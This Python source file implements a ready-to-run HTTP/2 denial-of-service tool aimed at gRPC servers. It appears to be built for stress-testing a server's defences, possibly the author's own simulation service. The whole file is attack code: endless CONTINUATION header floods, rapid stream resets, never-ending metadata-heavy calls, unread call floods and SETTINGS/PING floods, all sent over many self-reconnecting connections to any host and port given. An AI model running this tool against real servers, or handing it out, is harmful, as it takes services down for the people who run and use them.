"""Floods of one HTTP/2 connection that need no token; bare, gRPC 1.51 takes memory or processor time for each without bound.

`python3 floods.py NAME HOST:PORT SECONDS CONNECTIONS` keeps that many connections flooding, each opened again when it is
closed, and prints how many were opened and the bytes sent.
"""
from __future__ import annotations

import contextlib
import itertools
import select
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator

from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, START, call_headers,
                   frame, header)

CHUNK = 1 << 16  # bytes sent at once


def together(frames: Iterator[bytes]) -> Iterator[bytes]:
    """The frames in pieces of about CHUNK bytes."""
    piece = b""
    for one in frames:
        piece += one
        if len(piece) >= CHUNK:
            yield piece
            piece = b""


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


def continuations() -> Iterator[bytes]:
    """A request whose headers never end: small fields, two in a frame."""
    yield frame(HEADERS, END_STREAM, 1, call_headers())
    fields = frame(CONTINUATION, 0, 1, header(b"a", b"b") * 2)
    yield from itertools.repeat(fields * (CHUNK // len(fields)))


def large_continuations() -> Iterator[bytes]:
    """The same with frames of the largest size."""
    yield frame(HEADERS, END_STREAM, 1, call_headers())
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, header(b"a", b"b") * 3200) * 4)


def resets() -> Iterator[bytes]:
    """Calls that are reset at once."""
    headers, cancel = call_headers(), b"\0\0\0\x08"
    return together(frame(HEADERS, END_HEADERS, id, headers) + frame(RST_STREAM, 0, id, cancel) for id in streams())


def metadata() -> Iterator[bytes]:
    """Calls with 4 kB of metadata that never end, by a client that never acknowledges SETTINGS."""
    headers = call_headers(b"/stiefel.v1.SimulationService/Drive", (b"x", b"y" * 4000))
    return together(frame(HEADERS, END_HEADERS, id, headers) for id in streams())


def calls() -> Iterator[bytes]:
    """Whole calls, as fast as they can be sent, whose answers nobody reads."""
    headers = call_headers()
    message = b"\0\0\0\0\0"
    return together(frame(HEADERS, END_HEADERS, id, headers) + frame(DATA, END_STREAM, id, message) for id in streams())


def settings() -> Iterator[bytes]:
    """SETTINGS and PINGs, each of which asks for an answer."""
    return itertools.repeat((frame(SETTINGS) + frame(PING, 0, 0, b"8 bytes.")) * 2500)


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    flood.__name__: flood for flood in (continuations, large_continuations, resets, metadata, calls, settings)}


class Flood:
    """Connections that flood `address` until the end of the `with`."""

    def __init__(self, name: str, address: str, connections: int):
        self._flood, (host, port) = FLOODS[name], address.rsplit(":", 1)
        self._address = host, int(port)
        self._over = threading.Event()
        self.opened = self.sent = 0
        self._threads = [threading.Thread(target=self._keep) for _ in range(connections)]

    def _keep(self) -> None:
        while not self._over.is_set():
            with contextlib.suppress(OSError), socket.create_connection(self._address, timeout=1) as connection:
                self.opened += 1
                self._send(connection)
            self._over.wait(0.01)

    def _send(self, connection: socket.socket) -> None:
        """What the other side says is thrown away."""
        connection.sendall(START)
        connection.setblocking(False)
        for piece in self._flood():
            while piece:
                if self._over.is_set():
                    return
                readable, writable, _ = select.select([connection], [connection], [], 0.1)
                if readable and not connection.recv(CHUNK):
                    return
                sent = connection.send(piece) if writable else 0
                piece = piece[sent:]
                self.sent += sent

    def __enter__(self) -> Flood:
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._over.set()
        for thread in self._threads:
            thread.join()


if __name__ == "__main__":
    with Flood(sys.argv[1], sys.argv[2], int(sys.argv[4])) as attack:
        time.sleep(float(sys.argv[3]))
    print(attack.opened, attack.sent)
